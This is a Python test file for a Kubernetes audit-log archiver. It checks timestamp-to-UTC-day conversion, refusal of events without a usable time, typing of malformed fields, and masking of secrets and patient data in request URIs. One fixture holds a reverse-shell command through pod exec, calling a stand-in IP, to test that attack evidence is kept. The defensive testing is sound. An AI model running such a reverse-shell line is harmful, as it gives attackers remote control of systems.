"""One event → one row: the UTC day of the request, timestamps the API server and cloud exports write, and
what is refused (issue 16 req 6)."""

from __future__ import annotations

import orjson
import pytest

from kubehipaa.archive.rows import NoTimestamp, parse_ts, to_row
from kubehipaa.archive.schema import COLUMNS
from tests.auditlog.helpers import raw_event


@pytest.mark.parametrize("text,day", [
    ("2026-11-27T10:00:00.123456Z", "2026-11-27"),
    ("2026-11-27T23:30:00-02:00", "2026-11-28"),  # an offset moves the request into the next UTC day
    ("2026-11-28T00:30:00.5+01:00", "2026-11-27"),
    ("2026-11-27T10:00:00.123456789Z", "2026-11-27"),  # nanoseconds (cloud exports): truncated to µs
    ("0001-01-01T00:00:00Z", "0001-01-01"),
])
def test_a_row_lands_in_the_utc_day_of_its_request(text: str, day: str) -> None:
    row = to_row(orjson.dumps(raw_event(time=text)))
    assert row.day == day and len(row.values) == len(COLUMNS)


@pytest.mark.parametrize("text", [None, "", "yesterday", "2026-11-27", "2026-11-27T10:00:00", "2026-13-01T00:00:00Z",
                                  12345, "2026-11-27T10:00:00Z" + "0" * 50])
def test_an_event_without_a_usable_time_is_refused(text: object) -> None:
    ev = raw_event()
    ev["requestReceivedTimestamp"] = text
    ev.pop("stageTimestamp")
    assert parse_ts(text) is None
    with pytest.raises(NoTimestamp):
        to_row(orjson.dumps(ev))


def test_v1beta1_timestamp_is_used_when_request_received_is_absent() -> None:
    ev = raw_event()
    del ev["requestReceivedTimestamp"]
    ev["timestamp"] = "2020-02-29T12:00:00Z"
    assert to_row(orjson.dumps(ev)).day == "2020-02-29"


def test_columns_of_a_hostile_event_are_typed_or_null() -> None:
    ev = raw_event()
    ev["responseStatus"] = {"code": 1 << 40}
    ev["user"] = {"username": ["not", "a", "string"], "groups": ["ok", 7]}
    ev["sourceIPs"] = []
    values = dict(zip(COLUMNS, to_row(orjson.dumps(ev)).values, strict=True))
    assert values["code"] is None and values["user"] is None and values["groups"] == ["ok"]
    assert values["source_ip"] is None


EXEC = ("/api/v1/namespaces/clinical/pods/ehr-0/exec?command=psql&command=-c&command=select%20*%20from%20patients"
        "%20where%20ssn%3D%27123-45-6789%27&command=--password%3Dhunter2&container=app&stdout=true")
SHELL = ("/api/v1/namespaces/clinical/pods/ehr-0/exec?command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2F"
         "tcp%2F203.0.113.9%2F4444%200%3E%261&container=app")


def _uri(uri: str) -> str:
    row = to_row(orjson.dumps(raw_event("create", "pods", sub="exec", name="ehr-0", uri=uri)))
    stored = dict(zip(COLUMNS, row.values, strict=True))
    assert orjson.loads(stored["event"])["requestURI"] == stored["request_uri"]
    return str(stored["request_uri"])


def test_exec_commands_are_kept_with_their_secrets_and_phi_masked() -> None:
    from urllib.parse import parse_qs, urlsplit

    q = parse_qs(urlsplit(_uri(EXEC)).query)
    assert q["command"][:2] == ["psql", "-c"] and "<redacted:ssn>" in q["command"][2]
    assert "123-45-6789" not in _uri(EXEC) and "hunter2" not in _uri(EXEC)
    assert q["container"] == ["app"] and q["stdout"] == ["true"]
    shell = parse_qs(urlsplit(_uri(SHELL)).query)["command"]
    assert shell == ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]  # the evidence survives


def test_query_parameters_named_like_secrets_and_proxied_queries_are_masked() -> None:
    assert "abc123" not in _uri("/api/v1/pods?watch=true&access_token=abc123")
    assert "watch=true" in _uri("/api/v1/pods?watch=true&access_token=abc123")
    proxied = _uri("/api/v1/namespaces/x/services/web:80/proxy/search?patient=Jane%20Doe")
    assert "Jane" not in proxied and proxied.endswith("?<redacted:query>")
